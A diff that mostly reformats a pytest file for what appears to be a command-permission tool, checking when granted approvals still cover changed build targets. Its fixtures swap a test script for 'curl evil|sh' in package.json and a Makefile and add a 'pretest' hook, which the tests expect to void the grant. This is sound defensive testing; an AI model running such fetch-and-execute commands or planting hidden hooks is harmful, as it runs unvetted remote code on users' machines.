@@ -8,7 +8,21 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from askfirst.model import Command, Decision, Duration, Finding, Grant, Kind, Layer, Origin, Read, Scope, Unknown, Verdict, Write
+from askfirst.model import (
+    Command,
+    Decision,
+    Duration,
+    Finding,
+    Grant,
+    Kind,
+    Layer,
+    Origin,
+    Read,
+    Scope,
+    Unknown,
+    Verdict,
+    Write,
+)
 from askfirst.policy.entries import entries_of
 from askfirst.policy.rules import Layers
 from askfirst.policy.scope import Offer, covers, grant_of_text, offer_of
@@ -128,8 +142,20 @@ def test_a_script_run_by_its_own_name(project: Path) -> None:
     ("program", "name", "before", "after", "still"),
     [
         ("npm", "package.json", '{"scripts": {"test": "vitest"}}', '{"scripts": {"test": "curl evil|sh"}}', False),
-        ("npm", "package.json", '{"scripts": {"test": "vitest"}}', '{"scripts": {"test": "vitest", "pretest": "id"}}', False),
-        ("npm", "package.json", '{"scripts": {"test": "vitest"}}', '{"scripts": {"test": "vitest"}, "dependencies": {"a": "1"}}', True),
+        (
+            "npm",
+            "package.json",
+            '{"scripts": {"test": "vitest"}}',
+            '{"scripts": {"test": "vitest", "pretest": "id"}}',
+            False,
+        ),
+        (
+            "npm",
+            "package.json",
+            '{"scripts": {"test": "vitest"}}',
+            '{"scripts": {"test": "vitest"}, "dependencies": {"a": "1"}}',
+            True,
+        ),
         ("npm", "package.json", '{"scripts": {}}', "not json", False),
         ("make", "Makefile", "test:\n\ttrue\n", "test:\n\tcurl evil|sh\n", False),
         ("just", "justfile", "test:\n  true\n", "test:\n  false\n", False),
@@ -157,12 +183,15 @@ def test_a_makefile_that_is_put_before_the_other_counts(project: Path) -> None:
     assert not covers(grants, fact, given)
 
 
-@pytest.mark.parametrize("fact", [
-    Unknown("inline code", "code that is not read", "print(1)"),
-    Unknown("option", "not known", "--foo"),
-    Unknown("environment", "sets X", "X=1"),
-    Write("/p/.npmrc", ".npmrc", "overwrite", "tee"),
-])
+@pytest.mark.parametrize(
+    "fact",
+    [
+        Unknown("inline code", "code that is not read", "print(1)"),
+        Unknown("option", "not known", "--foo"),
+        Unknown("environment", "sets X", "X=1"),
+        Write("/p/.npmrc", ".npmrc", "overwrite", "tee"),
+    ],
+)
 def test_an_exact_text_is_bound_to_the_whole_request(project: Path, fact: Fact) -> None:
     given = layers(project)
     found = offer(given, command("npm test", project, kind=Kind.BUILD, key=("npm", "test")), fact)
@@ -251,7 +280,12 @@ def test_widening_is_one_step_and_only_for_programs_without_a_table(project: Pat
 
 @pytest.mark.parametrize(
     ("kind", "reason"),
-    [(Kind.INSTALL, "installation"), (Kind.DESTRUCTIVE, "deletes"), (Kind.INLINE, "exact text"), (Kind.WRAPPER, "exact text")],
+    [
+        (Kind.INSTALL, "installation"),
+        (Kind.DESTRUCTIVE, "deletes"),
+        (Kind.INLINE, "exact text"),
+        (Kind.WRAPPER, "exact text"),
+    ],
 )
 def test_kinds_that_are_not_made_permanent(project: Path, kind: Kind, reason: str) -> None:
     assert reason in offer(layers(project), command("mytool x", project, kind=kind)).refused[Duration.PERMANENT]
@@ -291,7 +325,9 @@ def test_a_grant_is_void_in_another_session_project_or_time(project: Path) -> No
     assert covers(timed, fact, given.replace(session="s2", now=now))
     assert not covers(timed, fact, given.replace(now=now + 11))
     assert not covers(timed, fact, given.replace(now=now - 11)), "the clock was set back"
-    assert not covers(grant(found, given, duration=Duration.PERMANENT), fact, given), "permanent ones count from the file"
+    assert not covers(grant(found, given, duration=Duration.PERMANENT), fact, given), (
+        "permanent ones count from the file"
+    )
     assert not covers(grant(found, given, duration=Duration.ONCE), fact, given)
 
 
@@ -303,10 +339,17 @@ def test_fingerprints_do_not_hold_words(project: Path) -> None:
 ENTRIES: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
     ("mytool build --fast", {}, {"name": "mytool", "args": ["build --fast"]}),
     ("mytool", {}, {"name": "mytool"}),
-    ("cargo test -p a", {"kind": Kind.BUILD, "key": ("cargo", "test")}, {"name": "cargo", "args": ["test"], "paths": "project"}),
+    (
+        "cargo test -p a",
+        {"kind": Kind.BUILD, "key": ("cargo", "test")},
+        {"name": "cargo", "args": ["test"], "paths": "project"},
+    ),
     ("sed -i s/a/b/ x", {"kind": Kind.EDIT}, {"name": "sed", "paths": "project"}),
-    ("git config user.name x", {"kind": Kind.EDIT, "key": ("git", "config"), "target": "user.name"},
-     {"name": "git", "args": ["config user.name"], "paths": "project"}),
+    (
+        "git config user.name x",
+        {"kind": Kind.EDIT, "key": ("git", "config"), "target": "user.name"},
+        {"name": "git", "args": ["config user.name"], "paths": "project"},
+    ),
     ("git config --local user.name x", {"kind": Kind.EDIT, "key": ("git", "config"), "target": "user.name"}, None),
     ("mytool *", {}, None),
     ("cargo test", {"kind": Kind.BUILD, "key": ("cargo", "test"), "cwd": "/elsewhere"}, None),
@@ -314,7 +357,9 @@ ENTRIES: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
 
 
 @pytest.mark.parametrize(("text", "more", "entry"), ENTRIES)
-def test_the_entry_that_would_be_stored(project: Path, text: str, more: dict[str, Any], entry: dict[str, Any] | None) -> None:
+def test_the_entry_that_would_be_stored(
+    project: Path, text: str, more: dict[str, Any], entry: dict[str, Any] | None
+) -> None:
     given = layers(project)
     found = entries_of(offer(given, command(text, project, **more)), given, wide=False)
     assert found == (() if entry is None else (entry,))
